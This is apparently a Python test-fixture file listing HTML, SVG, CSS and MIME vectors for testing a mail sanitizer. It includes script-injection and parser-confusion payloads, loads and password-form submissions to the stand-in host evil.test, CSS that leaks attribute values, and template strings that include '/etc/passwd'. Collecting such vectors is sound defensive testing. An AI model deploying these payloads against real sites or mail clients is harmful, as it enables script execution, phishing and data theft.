# ruff: noqa: E501 - each vector stands on a line of its own, however long
"""Strangers' markup, our own collection: one way each to run, to fetch, to cover the page, or to leave its frame.

`ran('…')` is what a vector calls when it runs; `https://evil.test/` is what it asks for. Whole bodies of mails, not
only elements: what a mail can declare about itself (charsets, parts, content ids) is part of the attack.
"""

from __future__ import annotations

import base64

HTML = {
    "script": "<script>ran('script')</script>",
    "script in capitals, with a slash": "<SCRIPT/x>ran('caps')</SCRIPT/x>",
    "script from elsewhere": "<script src=https://evil.test/a.js></script>",
    "module": "<script type=module>import('https://evil.test/m.js')</script>",
    "handler on a picture": "<img src=x onerror=ran('img')>",
    "handler on svg": "<svg/onload=ran('svg')>",
    "handler on body": "<body onload=ran('body') onpageshow=ran('show')>",
    "handler on details": "<details open ontoggle=ran('toggle')><summary>x</summary></details>",
    "handler by focus": "<input autofocus onfocus=ran('focus')><a href=# autofocus onfocus=ran('f2') tabindex=1>x</a>",
    "handler by animation": "<style>@keyframes x{}</style><p style='animation-name:x' onanimationend=ran('anim')>x</p>",
    "handler with a slash for a blank": "<img/src=x/onerror=ran('slash')>",
    "handler with a form feed": "<img\x0csrc=x\x0conerror=ran('ff')>",
    "handler after a broken quote": "<img alt=\"`><img src=x onerror=ran('quote')>\" src='",
    "svg script": "<svg><script>ran('s')</script></svg>",
    "svg script by href": "<svg><script href='https://evil.test/s.js'/></svg>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:ran('a') /><text>x</text></a></svg>",
    "svg set": "<svg><set onbegin=ran('set') attributeName=x dur=1s>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>ran(1)</script>'/>",
    "foreign object": "<svg><foreignObject><iframe srcdoc='<script>top.ran(1)</script>'></foreignObject></svg>",
    "math href": "<math href='javascript:ran(1)'>x</math>",
    "math to html": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=ran('m')&gt;\">",
    "svg to html": "<svg><desc><style><a title=\"</style><img src=x onerror=ran('d')>\">",
    "noscript": "<noscript><a title=\"</noscript><img src=x onerror=ran('n')>\">",
    "template": "<template><img src=x onerror=ran('t')></template>",
    "declarative shadow root": "<div><template shadowrootmode=open><img src=x onerror=ran('sh')></template></div>",
    "nested forms": "<form><div></form><form><img src=x onerror=ran('form')>",
    "textarea": "<textarea><img title=\"</textarea><img src=x onerror=ran('ta')>\">",
    "title": "<title><img title=\"</title><img src=x onerror=ran('ti')>\">",
    "plaintext": "<p><plaintext><img src=x onerror=ran('pl')>",
    "xmp": "<xmp></xmp><img src=x onerror=ran('x')>",
    "comment that ends early": "<!--><img src=x onerror=ran('c')>-->",
    "comment that ends oddly": "<!-- x --!><img src=x onerror=ran('c2')>",
    "conditional comment": "<!--[if true]><img src=x onerror=ran('c3')><![endif]-->",
    "cdata": "<![CDATA[><img src=x onerror=ran('cd')>]]>",
    "processing instruction": "<?x ><img src=x onerror=ran('pi')>?>",
    "select": "<select><template><img src=x onerror=ran('sel')></template></select>",
    "frameset": "<frameset onload=ran('fs')><frame src=javascript:ran('fr')></frameset>",
    "breaking out of the page": "</body></html><script>ran('out')</script>",
    "breaking out of the frame's attribute": "\"></iframe><script>ran('attr')</script>",
    "iframe": "<iframe src=javascript:parent.ran(1)></iframe><iframe srcdoc='<script>parent.ran(2)</script>'></iframe>",
    "object": "<object data='data:text/html,<script>ran(1)</script>'></object>",
    "embed": "<embed src='javascript:ran(1)'>",
    "link by javascript": "<a href='javascript:ran(1)'>x</a>",
    "link by javascript with control characters": "<a href='\x01java\tscr\nipt:ran(1)'>x</a>",
    "link by javascript in entities": "<a href='&#106;avascript&colon;ran(1)'>x</a>",
    "link by data": "<a href='data:text/html,<script>ran(1)</script>'>x</a>",
    "link without a scheme": "<a href='//evil.test/'>x</a><a href='/account'>x</a><a href='../../sign-out'>x</a>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "refresh to a script": "<meta http-equiv=refresh content='0;url=javascript:ran(1)'>",
    "policy of its own": "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\"><script>ran(1)</script>",
    "base": "<base href=https://evil.test/ target=_top><img src=p.png><a href=x>x</a>",
    "form to elsewhere": "<form action=https://evil.test/ id=f><input name=password><button>Sign in</button></form>",
    "form to our own pages": "<form action=/sign-out method=post><button>OK</button></form>",
    "picture": "<img src=https://evil.test/p.png><img src=//evil.test/q.png>",
    "picture with sources": "<picture><source srcset=https://evil.test/s.webp><img srcset='https://evil.test/r.png 2x'></picture>",
    "picture, lazily": "<img loading=lazy src=https://evil.test/l.png>",
    "dangling picture": "<p>secret<img src='https://evil.test/?<p>more secret</p>",
    "background": "<body background=https://evil.test/b><table background=https://evil.test/t><tr><td background=//evil.test/d>",
    "style url": "<p style='background:url(https://evil.test/u)'>x</p>",
    "style url in escapes": "<p style='background:\\75\\72\\6c(https://evil.test/e)'>x</p>",
    "style image-set": "<p style='background:image-set(\"https://evil.test/i\" 1x)'>x</p>",
    "style cursor, list, content": "<ul style='list-style:url(//evil.test/l);cursor:url(//evil.test/c),auto'><li>x</ul>",
    "style border, mask, filter": "<p style='border-image:url(//evil.test/b) 1;mask:url(//evil.test/m);filter:url(//evil.test/f)'>",
    "style variable": "<p style='--a:url(//evil.test/v);background:var(--a)'>x</p>",
    "sheet import": "<style>@import 'https://evil.test/i.css';@import url(//evil.test/j.css);</style>",
    "sheet font": "<style>@font-face{font-family:x;src:url(https://evil.test/f)}*{font-family:x}</style><p>x</p>",
    "sheet that reads attributes": "<style>input[value^=a]{background:url(https://evil.test/a)}</style><input value=abc>",
    "sheet that covers": "<style>p{position:fixed;inset:0;z-index:9999;background:red}</style><p>cover</p>",
    "style that covers": "<div style='position:fixed;top:-50vh;left:0;width:300vw;height:300vh;z-index:99'>cover</div>",
    "link to a sheet": "<link rel=stylesheet href=https://evil.test/s.css><link rel=prefetch href=//evil.test/p>",
    "preconnect": "<link rel=preconnect href=https://evil.test><link rel=dns-prefetch href=//evil.test>",
    "video, audio, track": "<video poster=//evil.test/v src=//evil.test/v2><audio src=//evil.test/a><track src=//evil.test/t>",
    "image button": "<input type=image src=https://evil.test/b formaction=javascript:ran(1)>",
    "ping": "<a href=https://x.example ping=https://evil.test/p>x</a>",
    "popover and dialog": "<dialog open style='inset:0'>x</dialog><div popover=manual>x</div><button popovertarget=x>x</button>",
    "names that shadow": "<a id=ran name=ran>x</a><form name=body><input name=innerHTML></form><img name=cookie>",
    "deep nesting": "<div>" * 3000 + "<img src=x onerror=ran('deep')>" + "</div>" * 3000,
    "a thousand fonts": "<font color=red>" * 1000 + "<img src=x onerror=ran('font')>",
    "unclosed everything": "<b><i><u><a href='https://x.example/<script>ran(1)</script>",
    "null and surrogates": "<scr\ufffdipt>ran(1)</scr\ufffdipt>\ud7ff<img src=x onerror=ran('u')>",
    "direction overrides": "\u202e<b>gpj.exe</b>\u2066",
    "template words of ours": "{{ 7*7 }} {% include '/etc/passwd' %} {body} {title} ${7*7} #{7*7} %(x)s",
}  # fmt: skip

_PIXEL_WITH_SCRIPT = base64.b64encode(
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='ran(1)'><script>ran(2)</script></svg>"
).decode()

BODIES = {  # whole MIME bodies
    "utf-7": b"Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-ran(1)+ADw-/script+AD4-\r\n",
    "utf-16": b"Content-Type: text/html; charset=utf-16le\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    + base64.b64encode("<script>ran(1)</script>".encode("utf-16-le"))
    + b"\r\n",
    "html said to be plain": b"Content-Type: text/plain\r\n\r\n<script>ran(1)</script><img src=x onerror=ran(2)>\r\n",
    "svg as the body": b"Content-Type: image/svg+xml\r\n\r\n<svg xmlns='http://www.w3.org/2000/svg' onload='ran(1)'/>\r\n",
    "xml as the body": b"Content-Type: application/xhtml+xml\r\n\r\n<html xmlns='http://www.w3.org/1999/xhtml'>"
    b"<script>ran(1)</script></html>\r\n",
    "svg by content id": b'Content-Type: multipart/related; boundary="r"\r\n\r\n--r\r\nContent-Type: text/html\r\n\r\n'
    b"<img src=cid:pic><object data=cid:pic></object><iframe src=cid:pic></iframe>\r\n--r\r\n"
    b"Content-Type: image/svg+xml\r\nContent-ID: <pic>\r\nContent-Disposition: inline\r\n"
    b"Content-Transfer-Encoding: base64\r\n\r\n" + _PIXEL_WITH_SCRIPT.encode() + b"\r\n--r--\r\n",
    "svg said to be png": b'Content-Type: multipart/related; boundary="r"\r\n\r\n--r\r\nContent-Type: text/html\r\n\r\n'
    b"<img src=cid:pic>\r\n--r\r\nContent-Type: image/png\r\nContent-ID: <pic>\r\n"
    b"Content-Transfer-Encoding: base64\r\n\r\n" + _PIXEL_WITH_SCRIPT.encode() + b"\r\n--r--\r\n",
    "content id that breaks out": b'Content-Type: multipart/related; boundary="r"\r\n\r\n--r\r\n'
    b"Content-Type: text/html\r\n\r\n<img src='cid:a\" onerror=\"ran(1)'>\r\n--r\r\nContent-Type: image/png\r\n"
    b'Content-ID: <a" onerror="ran(1)>\r\n\r\nx\r\n--r--\r\n',
    "alternative with two html parts": b'Content-Type: multipart/alternative; boundary="a"\r\n\r\n--a\r\n'
    b"Content-Type: text/html\r\n\r\n<b>\r\n--a\r\nContent-Type: text/html\r\n\r\n<script>ran(1)</script>\r\n--a--\r\n",
    "html in two parts, cut in a tag": b'Content-Type: multipart/mixed; boundary="m"\r\n\r\n--m\r\n'
    b"Content-Type: text/html\r\n\r\n<img alt='\r\n--m\r\nContent-Type: text/html\r\n\r\n"
    b"' src=x onerror=ran(1)>\r\n--m--\r\n",
}  # fmt: skip

# For everything that is one line of text: subjects, names, file names, numbers, what a peer's server says.
MARK = "<canary-mark>"
LINES = [
    '"><canary-mark><img src=x onerror=ran(1)>',
    "'-ran(1)-'<canary-mark>",
    "</title></textarea></script><canary-mark><script>ran(1)</script>",
    "<canary-mark onmouseover=ran(1)>{{7*7}}{% raw %}",
    "&lt;canary-mark&gt;<canary-mark>",
    "javascript:ran(1)//<canary-mark>",
    "\u202e<canary-mark>\u2028\u2029\u0085",
]
